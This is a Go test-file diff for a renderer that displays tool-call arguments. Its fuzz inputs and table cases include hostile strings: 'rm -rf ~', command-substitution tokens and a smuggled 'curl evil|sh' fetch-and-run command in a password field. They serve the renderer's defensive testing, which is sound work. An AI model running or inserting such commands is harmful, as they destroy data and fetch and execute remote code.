@@ -150,8 +150,10 @@ func readBack(t *testing.T, shown string) any {
 var pieces = []string{
 	"rm -rf ~", "; ", "&&", "|", "$(id)", "`id`", "${IFS}", "'", `"`, `\`, "\n", "\n\n\n\n\n\n", " ", strings.Repeat(" ", 200),
 	"\t", "\r", "\x00", "\x1b[2J", "\u202e", "\u2066", "\u200b", "\u2800", "\u3164", "\ufe0f", "é", "e\u0301\u0301\u0301\u0301",
-	"а", "日本", "🙂", "⟨U+202E⟩", "⟨5 spaces⟩", "⟨", "│ ", "- ", "name: ", "{}", "[]", "null", "-----BEGIN RSA " + "PRIVATE KEY-----",
-	"--password=a;curl${IFS}evil|sh", "4111111111111111", "ghp_" + strings.Repeat("0123456789ab", 3), "[REDACTED:x]", "\u00a0", "\u2028",
+	"а", "日本", "🙂", "⟨U+202E⟩", "⟨5 spaces⟩", "⟨", "│ ", "- ", "name: ", "{}", "[]", "null",
+	"-----BEGIN RSA " + "PRIVATE KEY-----",
+	"--password=a;curl${IFS}evil|sh", "4111111111111111", "ghp_" + strings.Repeat("0123456789ab", 3), "[REDACTED:x]",
+	"\u00a0", "\u2028",
 	"\U000e0041", "\ufffd", "שלום",
 }
 
@@ -215,7 +217,8 @@ func TestRender(t *testing.T) {
 		{"nothing", " ", "⟨no arguments⟩\n"},
 		{"a command", `{"command":"echo 'a'; rm -rf ~","timeout":3.0}`, "command: \n    │ echo 'a'; rm -rf ~\ntimeout: 3.0\n"},
 		{"lines", `{"text":"a\nb\n"}`, "text: \n    │ a\n    │ b\n    │ \n"},
-		{"a name that stands twice", `{"to":"a","To":"b"}`, "⟨a name stands twice: the tool may read either value⟩\nto: \"a\"\nTo: \"b\"\n"},
+		{"a name that stands twice", `{"to":"a","To":"b"}`,
+			"⟨a name stands twice: the tool may read either value⟩\nto: \"a\"\nTo: \"b\"\n"},
 		{"no JSON", "{\"a\":\xff", "⟨no JSON: the bytes as they are⟩\n  │ {\"a\":⟨0xFF⟩\n"},
 		{"two documents", `{}{}`, "⟨no JSON: the bytes as they are⟩\n  │ {}{}\n"},
 		{"half a surrogate", `{"a":"\ud800"}`, "⟨no JSON: the bytes as they are⟩\n  │ {\"a\":\"\\ud800\"}\n"},
@@ -223,7 +226,8 @@ func TestRender(t *testing.T) {
 		{"a secret", `{"password":"hunter2"}`, "password: ⟨masked: passwd⟩\n"},
 		{"a secret that is no single word", `{"password":"a;curl evil|sh"}`, "password: \"a;curl evil|sh\"\n"},
 		{"a secret in a command", `{"command":{"password":"hunter2"}}`, "command: \n    password: \n        │ hunter2\n"},
-		{"deep", strings.Repeat("[", 40) + strings.Repeat("]", 40), "⟨no JSON: the bytes as they are⟩\n  │ " + strings.Repeat("[", 40) + strings.Repeat("]", 40) + "\n"},
+		{"deep", strings.Repeat("[", 40) + strings.Repeat("]", 40),
+			"⟨no JSON: the bytes as they are⟩\n  │ " + strings.Repeat("[", 40) + strings.Repeat("]", 40) + "\n"},
 	} {
 		parts := view.Render([]byte(c.arguments), func(name, _ string) (string, bool) { return "passwd", name == "password" })
 		if got := view.Text(parts); got != c.want {
